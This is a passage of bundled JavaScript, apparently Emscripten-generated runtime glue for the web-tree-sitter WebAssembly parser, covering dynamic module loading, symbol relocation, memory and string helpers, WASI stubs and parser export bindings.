    var relocateExports = /* @__PURE__ */ __name((exports, memoryBase2, replace) => {
      var relocated = {};
      for (var e in exports) {
        var value = exports[e];
        if (typeof value == "object") {
          value = value.value;
        }
        if (typeof value == "number") {
          value += memoryBase2;
        }
        relocated[e] = value;
      }
      updateGOT(relocated, replace);
      return relocated;
    }, "relocateExports");
    var isSymbolDefined = /* @__PURE__ */ __name((symName) => {
      var existing = wasmImports[symName];
      if (!existing || existing.stub) {
        return false;
      }
      return true;
    }, "isSymbolDefined");
    var dynCall = /* @__PURE__ */ __name((sig, ptr, args2 = []) => {
      var rtn = getWasmTableEntry(ptr)(...args2);
      return rtn;
    }, "dynCall");
    var stackSave = /* @__PURE__ */ __name(() => _emscripten_stack_get_current(), "stackSave");
    var stackRestore = /* @__PURE__ */ __name((val) => __emscripten_stack_restore(val), "stackRestore");
    var createInvokeFunction = /* @__PURE__ */ __name((sig) => (ptr, ...args2) => {
      var sp = stackSave();
      try {
        return dynCall(sig, ptr, args2);
      } catch (e) {
        stackRestore(sp);
        if (e !== e + 0) throw e;
        _setThrew(1, 0);
        if (sig[0] == "j") return 0n;
      }
    }, "createInvokeFunction");
    var resolveGlobalSymbol = /* @__PURE__ */ __name((symName, direct = false) => {
      var sym;
      if (isSymbolDefined(symName)) {
        sym = wasmImports[symName];
      } else if (symName.startsWith("invoke_")) {
        sym = wasmImports[symName] = createInvokeFunction(symName.split("_")[1]);
      }
      return {
        sym,
        name: symName
      };
    }, "resolveGlobalSymbol");
    var onPostCtors = [];
    var addOnPostCtor = /* @__PURE__ */ __name((cb) => onPostCtors.unshift(cb), "addOnPostCtor");
    var UTF8ToString = /* @__PURE__ */ __name((ptr, maxBytesToRead) => ptr ? UTF8ArrayToString(HEAPU8, ptr, maxBytesToRead) : "", "UTF8ToString");
    var loadWebAssemblyModule = /* @__PURE__ */ __name((binary, flags, libName, localScope, handle) => {
      var metadata = getDylinkMetadata(binary);
      currentModuleWeakSymbols = metadata.weakImports;
      function loadModule() {
        var memAlign = Math.pow(2, metadata.memoryAlign);
        var memoryBase = metadata.memorySize ? alignMemory(getMemory(metadata.memorySize + memAlign), memAlign) : 0;
        var tableBase = metadata.tableSize ? wasmTable.length : 0;
        if (handle) {
          HEAP8[handle + 8] = 1;
          LE_HEAP_STORE_U32((handle + 12 >> 2) * 4, memoryBase);
          LE_HEAP_STORE_I32((handle + 16 >> 2) * 4, metadata.memorySize);
          LE_HEAP_STORE_U32((handle + 20 >> 2) * 4, tableBase);
          LE_HEAP_STORE_I32((handle + 24 >> 2) * 4, metadata.tableSize);
        }
        if (metadata.tableSize) {
          wasmTable.grow(metadata.tableSize);
        }
        var moduleExports;
        function resolveSymbol(sym) {
          var resolved = resolveGlobalSymbol(sym).sym;
          if (!resolved && localScope) {
            resolved = localScope[sym];
          }
          if (!resolved) {
            resolved = moduleExports[sym];
          }
          return resolved;
        }
        __name(resolveSymbol, "resolveSymbol");
        var proxyHandler = {
          get(stubs, prop) {
            switch (prop) {
              case "__memory_base":
                return memoryBase;
              case "__table_base":
                return tableBase;
            }
            if (prop in wasmImports && !wasmImports[prop].stub) {
              var res = wasmImports[prop];
              return res;
            }
            if (!(prop in stubs)) {
              var resolved;
              stubs[prop] = (...args2) => {
                resolved ||= resolveSymbol(prop);
                return resolved(...args2);
              };
            }
            return stubs[prop];
          }
        };
        var proxy = new Proxy({}, proxyHandler);
        var info = {
          "GOT.mem": new Proxy({}, GOTHandler),
          "GOT.func": new Proxy({}, GOTHandler),
          "env": proxy,
          "wasi_snapshot_preview1": proxy
        };
        function postInstantiation(module, instance) {
          updateTableMap(tableBase, metadata.tableSize);
          moduleExports = relocateExports(instance.exports, memoryBase);
          if (!flags.allowUndefined) {
            reportUndefinedSymbols();
          }
          function addEmAsm(addr, body) {
            var args = [];
            var arity = 0;
            for (; arity < 16; arity++) {
              if (body.indexOf("$" + arity) != -1) {
                args.push("$" + arity);
              } else {
                break;
              }
            }
            args = args.join(",");
            var func = `(${args}) => { ${body} };`;
            ASM_CONSTS[start] = eval(func);
          }
          __name(addEmAsm, "addEmAsm");
          if ("__start_em_asm" in moduleExports) {
            var start = moduleExports["__start_em_asm"];
            var stop = moduleExports["__stop_em_asm"];
            while (start < stop) {
              var jsString = UTF8ToString(start);
              addEmAsm(start, jsString);
              start = HEAPU8.indexOf(0, start) + 1;
            }
          }
          function addEmJs(name, cSig, body) {
            var jsArgs = [];
            cSig = cSig.slice(1, -1);
            if (cSig != "void") {
              cSig = cSig.split(",");
              for (var i in cSig) {
                var jsArg = cSig[i].split(" ").pop();
                jsArgs.push(jsArg.replace("*", ""));
              }
            }
            var func = `(${jsArgs}) => ${body};`;
            moduleExports[name] = eval(func);
          }
          __name(addEmJs, "addEmJs");
          for (var name in moduleExports) {
            if (name.startsWith("__em_js__")) {
              var start = moduleExports[name];
              var jsString = UTF8ToString(start);
              var parts = jsString.split("<::>");
              addEmJs(name.replace("__em_js__", ""), parts[0], parts[1]);
              delete moduleExports[name];
            }
          }
          var applyRelocs = moduleExports["__wasm_apply_data_relocs"];
          if (applyRelocs) {
            if (runtimeInitialized) {
              applyRelocs();
            } else {
              __RELOC_FUNCS__.push(applyRelocs);
            }
          }
          var init = moduleExports["__wasm_call_ctors"];
          if (init) {
            if (runtimeInitialized) {
              init();
            } else {
              addOnPostCtor(init);
            }
          }
          return moduleExports;
        }
        __name(postInstantiation, "postInstantiation");
        if (flags.loadAsync) {
          if (binary instanceof WebAssembly.Module) {
            var instance = new WebAssembly.Instance(binary, info);
            return Promise.resolve(postInstantiation(binary, instance));
          }
          return WebAssembly.instantiate(binary, info).then((result2) => postInstantiation(result2.module, result2.instance));
        }
        var module = binary instanceof WebAssembly.Module ? binary : new WebAssembly.Module(binary);
        var instance = new WebAssembly.Instance(module, info);
        return postInstantiation(module, instance);
      }
      __name(loadModule, "loadModule");
      if (flags.loadAsync) {
        return metadata.neededDynlibs.reduce((chain, dynNeeded) => chain.then(() => loadDynamicLibrary(dynNeeded, flags, localScope)), Promise.resolve()).then(loadModule);
      }
      metadata.neededDynlibs.forEach((needed) => loadDynamicLibrary(needed, flags, localScope));
      return loadModule();
    }, "loadWebAssemblyModule");
    var mergeLibSymbols = /* @__PURE__ */ __name((exports, libName2) => {
      for (var [sym, exp] of Object.entries(exports)) {
        const setImport = /* @__PURE__ */ __name((target) => {
          if (!isSymbolDefined(target)) {
            wasmImports[target] = exp;
          }
        }, "setImport");
        setImport(sym);
        const main_alias = "__main_argc_argv";
        if (sym == "main") {
          setImport(main_alias);
        }
        if (sym == main_alias) {
          setImport("main");
        }
      }
    }, "mergeLibSymbols");
    var asyncLoad = /* @__PURE__ */ __name(async (url) => {
      var arrayBuffer = await readAsync(url);
      return new Uint8Array(arrayBuffer);
    }, "asyncLoad");
    function loadDynamicLibrary(libName2, flags2 = {
      global: true,
      nodelete: true
    }, localScope2, handle2) {
      var dso = LDSO.loadedLibsByName[libName2];
      if (dso) {
        if (!flags2.global) {
          if (localScope2) {
            Object.assign(localScope2, dso.exports);
          }
        } else if (!dso.global) {
          dso.global = true;
          mergeLibSymbols(dso.exports, libName2);
        }
        if (flags2.nodelete && dso.refcount !== Infinity) {
          dso.refcount = Infinity;
        }
        dso.refcount++;
        if (handle2) {
          LDSO.loadedLibsByHandle[handle2] = dso;
        }
        return flags2.loadAsync ? Promise.resolve(true) : true;
      }
      dso = newDSO(libName2, handle2, "loading");
      dso.refcount = flags2.nodelete ? Infinity : 1;
      dso.global = flags2.global;
      function loadLibData() {
        if (handle2) {
          var data = LE_HEAP_LOAD_U32((handle2 + 28 >> 2) * 4);
          var dataSize = LE_HEAP_LOAD_U32((handle2 + 32 >> 2) * 4);
          if (data && dataSize) {
            var libData = HEAP8.slice(data, data + dataSize);
            return flags2.loadAsync ? Promise.resolve(libData) : libData;
          }
        }
        var libFile = locateFile(libName2);
        if (flags2.loadAsync) {
          return asyncLoad(libFile);
        }
        if (!readBinary) {
          throw new Error(`${libFile}: file not found, and synchronous loading of external files is not available`);
        }
        return readBinary(libFile);
      }
      __name(loadLibData, "loadLibData");
      function getExports() {
        if (flags2.loadAsync) {
          return loadLibData().then((libData) => loadWebAssemblyModule(libData, flags2, libName2, localScope2, handle2));
        }
        return loadWebAssemblyModule(loadLibData(), flags2, libName2, localScope2, handle2);
      }
      __name(getExports, "getExports");
      function moduleLoaded(exports) {
        if (dso.global) {
          mergeLibSymbols(exports, libName2);
        } else if (localScope2) {
          Object.assign(localScope2, exports);
        }
        dso.exports = exports;
      }
      __name(moduleLoaded, "moduleLoaded");
      if (flags2.loadAsync) {
        return getExports().then((exports) => {
          moduleLoaded(exports);
          return true;
        });
      }
      moduleLoaded(getExports());
      return true;
    }
    __name(loadDynamicLibrary, "loadDynamicLibrary");
    var reportUndefinedSymbols = /* @__PURE__ */ __name(() => {
      for (var [symName, entry] of Object.entries(GOT)) {
        if (entry.value == 0) {
          var value = resolveGlobalSymbol(symName, true).sym;
          if (!value && !entry.required) {
            continue;
          }
          if (typeof value == "function") {
            entry.value = addFunction(value, value.sig);
          } else if (typeof value == "number") {
            entry.value = value;
          } else {
            throw new Error(`bad export type for '${symName}': ${typeof value}`);
          }
        }
      }
    }, "reportUndefinedSymbols");
    var loadDylibs = /* @__PURE__ */ __name(() => {
      if (!dynamicLibraries.length) {
        reportUndefinedSymbols();
        return;
      }
      addRunDependency("loadDylibs");
      dynamicLibraries.reduce((chain, lib) => chain.then(() => loadDynamicLibrary(lib, {
        loadAsync: true,
        global: true,
        nodelete: true,
        allowUndefined: true
      })), Promise.resolve()).then(() => {
        reportUndefinedSymbols();
        removeRunDependency("loadDylibs");
      });
    }, "loadDylibs");
    var noExitRuntime = Module["noExitRuntime"] || true;
    function setValue(ptr, value, type = "i8") {
      if (type.endsWith("*")) type = "*";
      switch (type) {
        case "i1":
          HEAP8[ptr] = value;
          break;
        case "i8":
          HEAP8[ptr] = value;
          break;
        case "i16":
          LE_HEAP_STORE_I16((ptr >> 1) * 2, value);
          break;
        case "i32":
          LE_HEAP_STORE_I32((ptr >> 2) * 4, value);
          break;
        case "i64":
          HEAP64[ptr >> 3] = BigInt(value);
          break;
        case "float":
          LE_HEAP_STORE_F32((ptr >> 2) * 4, value);
          break;
        case "double":
          LE_HEAP_STORE_F64((ptr >> 3) * 8, value);
          break;
        case "*":
          LE_HEAP_STORE_U32((ptr >> 2) * 4, value);
          break;
        default:
          abort(`invalid type for setValue: ${type}`);
      }
    }
    __name(setValue, "setValue");
    var ___memory_base = new WebAssembly.Global({
      "value": "i32",
      "mutable": false
    }, 1024);
    var ___stack_pointer = new WebAssembly.Global({
      "value": "i32",
      "mutable": true
    }, 78224);
    var ___table_base = new WebAssembly.Global({
      "value": "i32",
      "mutable": false
    }, 1);
    var __abort_js = /* @__PURE__ */ __name(() => abort(""), "__abort_js");
    __abort_js.sig = "v";
    var _emscripten_get_now = /* @__PURE__ */ __name(() => performance.now(), "_emscripten_get_now");
    _emscripten_get_now.sig = "d";
    var _emscripten_date_now = /* @__PURE__ */ __name(() => Date.now(), "_emscripten_date_now");
    _emscripten_date_now.sig = "d";
    var nowIsMonotonic = 1;
    var checkWasiClock = /* @__PURE__ */ __name((clock_id) => clock_id >= 0 && clock_id <= 3, "checkWasiClock");
    var INT53_MAX = 9007199254740992;
    var INT53_MIN = -9007199254740992;
    var bigintToI53Checked = /* @__PURE__ */ __name((num) => num < INT53_MIN || num > INT53_MAX ? NaN : Number(num), "bigintToI53Checked");
    function _clock_time_get(clk_id, ignored_precision, ptime) {
      ignored_precision = bigintToI53Checked(ignored_precision);
      if (!checkWasiClock(clk_id)) {
        return 28;
      }
      var now;
      if (clk_id === 0) {
        now = _emscripten_date_now();
      } else if (nowIsMonotonic) {
        now = _emscripten_get_now();
      } else {
        return 52;
      }
      var nsec = Math.round(now * 1e3 * 1e3);
      HEAP64[ptime >> 3] = BigInt(nsec);
      return 0;
    }
    __name(_clock_time_get, "_clock_time_get");
    _clock_time_get.sig = "iijp";
    var getHeapMax = /* @__PURE__ */ __name(() => (
      // Stay one Wasm page short of 4GB: while e.g. Chrome is able to allocate
      // full 4GB Wasm memories, the size will wrap back to 0 bytes in Wasm side
      // for any code that deals with heap sizes, which would require special
      // casing all heap size related code to treat 0 specially.
      2147483648
    ), "getHeapMax");
    var growMemory = /* @__PURE__ */ __name((size) => {
      var b = wasmMemory.buffer;
      var pages = (size - b.byteLength + 65535) / 65536 | 0;
      try {
        wasmMemory.grow(pages);
        updateMemoryViews();
        return 1;
      } catch (e) {
      }
    }, "growMemory");
    var _emscripten_resize_heap = /* @__PURE__ */ __name((requestedSize) => {
      var oldSize = HEAPU8.length;
      requestedSize >>>= 0;
      var maxHeapSize = getHeapMax();
      if (requestedSize > maxHeapSize) {
        return false;
      }
      for (var cutDown = 1; cutDown <= 4; cutDown *= 2) {
        var overGrownHeapSize = oldSize * (1 + 0.2 / cutDown);
        overGrownHeapSize = Math.min(overGrownHeapSize, requestedSize + 100663296);
        var newSize = Math.min(maxHeapSize, alignMemory(Math.max(requestedSize, overGrownHeapSize), 65536));
        var replacement = growMemory(newSize);
        if (replacement) {
          return true;
        }
      }
      return false;
    }, "_emscripten_resize_heap");
    _emscripten_resize_heap.sig = "ip";
    var _fd_close = /* @__PURE__ */ __name((fd) => 52, "_fd_close");
    _fd_close.sig = "ii";
    function _fd_seek(fd, offset, whence, newOffset) {
      offset = bigintToI53Checked(offset);
      return 70;
    }
    __name(_fd_seek, "_fd_seek");
    _fd_seek.sig = "iijip";
    var printCharBuffers = [null, [], []];
    var printChar = /* @__PURE__ */ __name((stream, curr) => {
      var buffer = printCharBuffers[stream];
      if (curr === 0 || curr === 10) {
        (stream === 1 ? out : err)(UTF8ArrayToString(buffer));
        buffer.length = 0;
      } else {
        buffer.push(curr);
      }
    }, "printChar");
    var flush_NO_FILESYSTEM = /* @__PURE__ */ __name(() => {
      if (printCharBuffers[1].length) printChar(1, 10);
      if (printCharBuffers[2].length) printChar(2, 10);
    }, "flush_NO_FILESYSTEM");
    var SYSCALLS = {
      varargs: void 0,
      getStr(ptr) {
        var ret = UTF8ToString(ptr);
        return ret;
      }
    };
    var _fd_write = /* @__PURE__ */ __name((fd, iov, iovcnt, pnum) => {
      var num = 0;
      for (var i2 = 0; i2 < iovcnt; i2++) {
        var ptr = LE_HEAP_LOAD_U32((iov >> 2) * 4);
        var len = LE_HEAP_LOAD_U32((iov + 4 >> 2) * 4);
        iov += 8;
        for (var j = 0; j < len; j++) {
          printChar(fd, HEAPU8[ptr + j]);
        }
        num += len;
      }
      LE_HEAP_STORE_U32((pnum >> 2) * 4, num);
      return 0;
    }, "_fd_write");
    _fd_write.sig = "iippp";
    function _tree_sitter_log_callback(isLexMessage, messageAddress) {
      if (Module.currentLogCallback) {
        const message15 = UTF8ToString(messageAddress);
        Module.currentLogCallback(message15, isLexMessage !== 0);
      }
    }
    __name(_tree_sitter_log_callback, "_tree_sitter_log_callback");
    function _tree_sitter_parse_callback(inputBufferAddress, index, row, column, lengthAddress) {
      const INPUT_BUFFER_SIZE = 10 * 1024;
      const string = Module.currentParseCallback(index, {
        row,
        column
      });
      if (typeof string === "string") {
        setValue(lengthAddress, string.length, "i32");
        stringToUTF16(string, inputBufferAddress, INPUT_BUFFER_SIZE);
      } else {
        setValue(lengthAddress, 0, "i32");
      }
    }
    __name(_tree_sitter_parse_callback, "_tree_sitter_parse_callback");
    function _tree_sitter_progress_callback(currentOffset, hasError) {
      if (Module.currentProgressCallback) {
        return Module.currentProgressCallback({
          currentOffset,
          hasError
        });
      }
      return false;
    }
    __name(_tree_sitter_progress_callback, "_tree_sitter_progress_callback");
    function _tree_sitter_query_progress_callback(currentOffset) {
      if (Module.currentQueryProgressCallback) {
        return Module.currentQueryProgressCallback({
          currentOffset
        });
      }
      return false;
    }
    __name(_tree_sitter_query_progress_callback, "_tree_sitter_query_progress_callback");
    var runtimeKeepaliveCounter = 0;
    var keepRuntimeAlive = /* @__PURE__ */ __name(() => noExitRuntime || runtimeKeepaliveCounter > 0, "keepRuntimeAlive");
    var _proc_exit = /* @__PURE__ */ __name((code3) => {
      EXITSTATUS = code3;
      if (!keepRuntimeAlive()) {
        Module["onExit"]?.(code3);
        ABORT = true;
      }
      quit_(code3, new ExitStatus(code3));
    }, "_proc_exit");
    _proc_exit.sig = "vi";
    var exitJS = /* @__PURE__ */ __name((status, implicit) => {
      EXITSTATUS = status;
      _proc_exit(status);
    }, "exitJS");
    var handleException = /* @__PURE__ */ __name((e) => {
      if (e instanceof ExitStatus || e == "unwind") {
        return EXITSTATUS;
      }
      quit_(1, e);
    }, "handleException");
    var lengthBytesUTF8 = /* @__PURE__ */ __name((str) => {
      var len = 0;
      for (var i2 = 0; i2 < str.length; ++i2) {
        var c = str.charCodeAt(i2);
        if (c <= 127) {
          len++;
        } else if (c <= 2047) {
          len += 2;
        } else if (c >= 55296 && c <= 57343) {
          len += 4;
          ++i2;
        } else {
          len += 3;
        }
      }
      return len;
    }, "lengthBytesUTF8");
    var stringToUTF8Array = /* @__PURE__ */ __name((str, heap, outIdx, maxBytesToWrite) => {
      if (!(maxBytesToWrite > 0)) return 0;
      var startIdx = outIdx;
      var endIdx = outIdx + maxBytesToWrite - 1;
      for (var i2 = 0; i2 < str.length; ++i2) {
        var u = str.charCodeAt(i2);
        if (u >= 55296 && u <= 57343) {
          var u1 = str.charCodeAt(++i2);
          u = 65536 + ((u & 1023) << 10) | u1 & 1023;
        }
        if (u <= 127) {
          if (outIdx >= endIdx) break;
          heap[outIdx++] = u;
        } else if (u <= 2047) {
          if (outIdx + 1 >= endIdx) break;
          heap[outIdx++] = 192 | u >> 6;
          heap[outIdx++] = 128 | u & 63;
        } else if (u <= 65535) {
          if (outIdx + 2 >= endIdx) break;
          heap[outIdx++] = 224 | u >> 12;
          heap[outIdx++] = 128 | u >> 6 & 63;
          heap[outIdx++] = 128 | u & 63;
        } else {
          if (outIdx + 3 >= endIdx) break;
          heap[outIdx++] = 240 | u >> 18;
          heap[outIdx++] = 128 | u >> 12 & 63;
          heap[outIdx++] = 128 | u >> 6 & 63;
          heap[outIdx++] = 128 | u & 63;
        }
      }
      heap[outIdx] = 0;
      return outIdx - startIdx;
    }, "stringToUTF8Array");
    var stringToUTF8 = /* @__PURE__ */ __name((str, outPtr, maxBytesToWrite) => stringToUTF8Array(str, HEAPU8, outPtr, maxBytesToWrite), "stringToUTF8");
    var stackAlloc = /* @__PURE__ */ __name((sz) => __emscripten_stack_alloc(sz), "stackAlloc");
    var stringToUTF8OnStack = /* @__PURE__ */ __name((str) => {
      var size = lengthBytesUTF8(str) + 1;
      var ret = stackAlloc(size);
      stringToUTF8(str, ret, size);
      return ret;
    }, "stringToUTF8OnStack");
    var AsciiToString = /* @__PURE__ */ __name((ptr) => {
      var str = "";
      while (1) {
        var ch = HEAPU8[ptr++];
        if (!ch) return str;
        str += String.fromCharCode(ch);
      }
    }, "AsciiToString");
    var stringToUTF16 = /* @__PURE__ */ __name((str, outPtr, maxBytesToWrite) => {
      maxBytesToWrite ??= 2147483647;
      if (maxBytesToWrite < 2) return 0;
      maxBytesToWrite -= 2;
      var startPtr = outPtr;
      var numCharsToWrite = maxBytesToWrite < str.length * 2 ? maxBytesToWrite / 2 : str.length;
      for (var i2 = 0; i2 < numCharsToWrite; ++i2) {
        var codeUnit = str.charCodeAt(i2);
        LE_HEAP_STORE_I16((outPtr >> 1) * 2, codeUnit);
        outPtr += 2;
      }
      LE_HEAP_STORE_I16((outPtr >> 1) * 2, 0);
      return outPtr - startPtr;
    }, "stringToUTF16");
    var wasmImports = {
      /** @export */
      __heap_base: ___heap_base,
      /** @export */
      __indirect_function_table: wasmTable,
      /** @export */
      __memory_base: ___memory_base,
      /** @export */
      __stack_pointer: ___stack_pointer,
      /** @export */
      __table_base: ___table_base,
      /** @export */
      _abort_js: __abort_js,
      /** @export */
      clock_time_get: _clock_time_get,
      /** @export */
      emscripten_resize_heap: _emscripten_resize_heap,
      /** @export */
      fd_close: _fd_close,
      /** @export */
      fd_seek: _fd_seek,
      /** @export */
      fd_write: _fd_write,
      /** @export */
      memory: wasmMemory,
      /** @export */
      tree_sitter_log_callback: _tree_sitter_log_callback,
      /** @export */
      tree_sitter_parse_callback: _tree_sitter_parse_callback,
      /** @export */
      tree_sitter_progress_callback: _tree_sitter_progress_callback,
      /** @export */
      tree_sitter_query_progress_callback: _tree_sitter_query_progress_callback
    };
    var wasmExports = await createWasm();
    var ___wasm_call_ctors = wasmExports["__wasm_call_ctors"];
    var _malloc = Module["_malloc"] = wasmExports["malloc"];
    var _calloc = Module["_calloc"] = wasmExports["calloc"];
    var _realloc = Module["_realloc"] = wasmExports["realloc"];
    var _free = Module["_free"] = wasmExports["free"];
    var _memcmp = Module["_memcmp"] = wasmExports["memcmp"];
    var _ts_language_symbol_count = Module["_ts_language_symbol_count"] = wasmExports["ts_language_symbol_count"];
    var _ts_language_state_count = Module["_ts_language_state_count"] = wasmExports["ts_language_state_count"];
    var _ts_language_version = Module["_ts_language_version"] = wasmExports["ts_language_version"];
    var _ts_language_abi_version = Module["_ts_language_abi_version"] = wasmExports["ts_language_abi_version"];
    var _ts_language_metadata = Module["_ts_language_metadata"] = wasmExports["ts_language_metadata"];
    var _ts_language_name = Module["_ts_language_name"] = wasmExports["ts_language_name"];
    var _ts_language_field_count = Module["_ts_language_field_count"] = wasmExports["ts_language_field_count"];
    var _ts_language_next_state = Module["_ts_language_next_state"] = wasmExports["ts_language_next_state"];
    var _ts_language_symbol_name = Module["_ts_language_symbol_name"] = wasmExports["ts_language_symbol_name"];
    var _ts_language_symbol_for_name = Module["_ts_language_symbol_for_name"] = wasmExports["ts_language_symbol_for_name"];
    var _strncmp = Module["_strncmp"] = wasmExports["strncmp"];
    var _ts_language_symbol_type = Module["_ts_language_symbol_type"] = wasmExports["ts_language_symbol_type"];
    var _ts_language_field_name_for_id = Module["_ts_language_field_name_for_id"] = wasmExports["ts_language_field_name_for_id"];
    var _ts_lookahead_iterator_new = Module["_ts_lookahead_iterator_new"] = wasmExports["ts_lookahead_iterator_new"];
    var _ts_lookahead_iterator_delete = Module["_ts_lookahead_iterator_delete"] = wasmExports["ts_lookahead_iterator_delete"];
    var _ts_lookahead_iterator_reset_state = Module["_ts_lookahead_iterator_reset_state"] = wasmExports["ts_lookahead_iterator_reset_state"];
    var _ts_lookahead_iterator_reset = Module["_ts_lookahead_iterator_reset"] = wasmExports["ts_lookahead_iterator_reset"];
    var _ts_lookahead_iterator_next = Module["_ts_lookahead_iterator_next"] = wasmExports["ts_lookahead_iterator_next"];
    var _ts_lookahead_iterator_current_symbol = Module["_ts_lookahead_iterator_current_symbol"] = wasmExports["ts_lookahead_iterator_current_symbol"];
    var _ts_parser_delete = Module["_ts_parser_delete"] = wasmExports["ts_parser_delete"];
    var _ts_parser_reset = Module["_ts_parser_reset"] = wasmExports["ts_parser_reset"];
    var _ts_parser_set_language = Module["_ts_parser_set_language"] = wasmExports["ts_parser_set_language"];
    var _ts_parser_timeout_micros = Module["_ts_parser_timeout_micros"] = wasmExports["ts_parser_timeout_micros"];
    var _ts_parser_set_timeout_micros = Module["_ts_parser_set_timeout_micros"] = wasmExports["ts_parser_set_timeout_micros"];
    var _ts_parser_set_included_ranges = Module["_ts_parser_set_included_ranges"] = wasmExports["ts_parser_set_included_ranges"];
    var _ts_query_new = Module["_ts_query_new"] = wasmExports["ts_query_new"];
    var _ts_query_delete = Module["_ts_query_delete"] = wasmExports["ts_query_delete"];
    var _iswspace = Module["_iswspace"] = wasmExports["iswspace"];
    var _iswalnum = Module["_iswalnum"] = wasmExports["iswalnum"];
    var _ts_query_pattern_count = Module["_ts_query_pattern_count"] = wasmExports["ts_query_pattern_count"];
    var _ts_query_capture_count = Module["_ts_query_capture_count"] = wasmExports["ts_query_capture_count"];
    var _ts_query_string_count = Module["_ts_query_string_count"] = wasmExports["ts_query_string_count"];
    var _ts_query_capture_name_for_id = Module["_ts_query_capture_name_for_id"] = wasmExports["ts_query_capture_name_for_id"];
    var _ts_query_capture_quantifier_for_id = Module["_ts_query_capture_quantifier_for_id"] = wasmExports["ts_query_capture_quantifier_for_id"];
    var _ts_query_string_value_for_id = Module["_ts_query_string_value_for_id"] = wasmExports["ts_query_string_value_for_id"];
    var _ts_query_predicates_for_pattern = Module["_ts_query_predicates_for_pattern"] = wasmExports["ts_query_predicates_for_pattern"];
    var _ts_query_start_byte_for_pattern = Module["_ts_query_start_byte_for_pattern"] = wasmExports["ts_query_start_byte_for_pattern"];
    var _ts_query_end_byte_for_pattern = Module["_ts_query_end_byte_for_pattern"] = wasmExports["ts_query_end_byte_for_pattern"];
    var _ts_query_is_pattern_rooted = Module["_ts_query_is_pattern_rooted"] = wasmExports["ts_query_is_pattern_rooted"];
    var _ts_query_is_pattern_non_local = Module["_ts_query_is_pattern_non_local"] = wasmExports["ts_query_is_pattern_non_local"];
    var _ts_query_is_pattern_guaranteed_at_step = Module["_ts_query_is_pattern_guaranteed_at_step"] = wasmExports["ts_query_is_pattern_guaranteed_at_step"];
    var _ts_query_disable_capture = Module["_ts_query_disable_capture"] = wasmExports["ts_query_disable_capture"];
    var _ts_query_disable_pattern = Module["_ts_query_disable_pattern"] = wasmExports["ts_query_disable_pattern"];
    var _ts_tree_copy = Module["_ts_tree_copy"] = wasmExports["ts_tree_copy"];
    var _ts_tree_delete = Module["_ts_tree_delete"] = wasmExports["ts_tree_delete"];
    var _ts_init = Module["_ts_init"] = wasmExports["ts_init"];
    var _ts_parser_new_wasm = Module["_ts_parser_new_wasm"] = wasmExports["ts_parser_new_wasm"];
    var _ts_parser_enable_logger_wasm = Module["_ts_parser_enable_logger_wasm"] = wasmExports["ts_parser_enable_logger_wasm"];
    var _ts_parser_parse_wasm = Module["_ts_parser_parse_wasm"] = wasmExports["ts_parser_parse_wasm"];
    var _ts_parser_included_ranges_wasm = Module["_ts_parser_included_ranges_wasm"] = wasmExports["ts_parser_included_ranges_wasm"];
    var _ts_language_type_is_named_wasm = Module["_ts_language_type_is_named_wasm"] = wasmExports["ts_language_type_is_named_wasm"];
    var _ts_language_type_is_visible_wasm = Module["_ts_language_type_is_visible_wasm"] = wasmExports["ts_language_type_is_visible_wasm"];
    var _ts_language_supertypes_wasm = Module["_ts_language_supertypes_wasm"] = wasmExports["ts_language_supertypes_wasm"];
    var _ts_language_subtypes_wasm = Module["_ts_language_subtypes_wasm"] = wasmExports["ts_language_subtypes_wasm"];
    var _ts_tree_root_node_wasm = Module["_ts_tree_root_node_wasm"] = wasmExports["ts_tree_root_node_wasm"];
    var _ts_tree_root_node_with_offset_wasm = Module["_ts_tree_root_node_with_offset_wasm"] = wasmExports["ts_tree_root_node_with_offset_wasm"];
    var _ts_tree_edit_wasm = Module["_ts_tree_edit_wasm"] = wasmExports["ts_tree_edit_wasm"];
    var _ts_tree_included_ranges_wasm = Module["_ts_tree_included_ranges_wasm"] = wasmExports["ts_tree_included_ranges_wasm"];
    var _ts_tree_get_changed_ranges_wasm = Module["_ts_tree_get_changed_ranges_wasm"] = wasmExports["ts_tree_get_changed_ranges_wasm"];
    var _ts_tree_cursor_new_wasm = Module["_ts_tree_cursor_new_wasm"] = wasmExports["ts_tree_cursor_new_wasm"];
    var _ts_tree_cursor_copy_wasm = Module["_ts_tree_cursor_copy_wasm"] = wasmExports["ts_tree_cursor_copy_wasm"];
    var _ts_tree_cursor_delete_wasm = Module["_ts_tree_cursor_delete_wasm"] = wasmExports["ts_tree_cursor_delete_wasm"];
    var _ts_tree_cursor_reset_wasm = Module["_ts_tree_cursor_reset_wasm"] = wasmExports["ts_tree_cursor_reset_wasm"];
    var _ts_tree_cursor_reset_to_wasm = Module["_ts_tree_cursor_reset_to_wasm"] = wasmExports["ts_tree_cursor_reset_to_wasm"];
    var _ts_tree_cursor_goto_first_child_wasm = Module["_ts_tree_cursor_goto_first_child_wasm"] = wasmExports["ts_tree_cursor_goto_first_child_wasm"];
    var _ts_tree_cursor_goto_last_child_wasm = Module["_ts_tree_cursor_goto_last_child_wasm"] = wasmExports["ts_tree_cursor_goto_last_child_wasm"];
    var _ts_tree_cursor_goto_first_child_for_index_wasm = Module["_ts_tree_cursor_goto_first_child_for_index_wasm"] = wasmExports["ts_tree_cursor_goto_first_child_for_index_wasm"];
    var _ts_tree_cursor_goto_first_child_for_position_wasm = Module["_ts_tree_cursor_goto_first_child_for_position_wasm"] = wasmExports["ts_tree_cursor_goto_first_child_for_position_wasm"];
    var _ts_tree_cursor_goto_next_sibling_wasm = Module["_ts_tree_cursor_goto_next_sibling_wasm"] = wasmExports["ts_tree_cursor_goto_next_sibling_wasm"];
    var _ts_tree_cursor_goto_previous_sibling_wasm = Module["_ts_tree_cursor_goto_previous_sibling_wasm"] = wasmExports["ts_tree_cursor_goto_previous_sibling_wasm"];
    var _ts_tree_cursor_goto_descendant_wasm = Module["_ts_tree_cursor_goto_descendant_wasm"] = wasmExports["ts_tree_cursor_goto_descendant_wasm"];
    var _ts_tree_cursor_goto_parent_wasm = Module["_ts_tree_cursor_goto_parent_wasm"] = wasmExports["ts_tree_cursor_goto_parent_wasm"];
    var _ts_tree_cursor_current_node_type_id_wasm = Module["_ts_tree_cursor_current_node_type_id_wasm"] = wasmExports["ts_tree_cursor_current_node_type_id_wasm"];
    var _ts_tree_cursor_current_node_state_id_wasm = Module["_ts_tree_cursor_current_node_state_id_wasm"] = wasmExports["ts_tree_cursor_current_node_state_id_wasm"];
    var _ts_tree_cursor_current_node_is_named_wasm = Module["_ts_tree_cursor_current_node_is_named_wasm"] = wasmExports["ts_tree_cursor_current_node_is_named_wasm"];
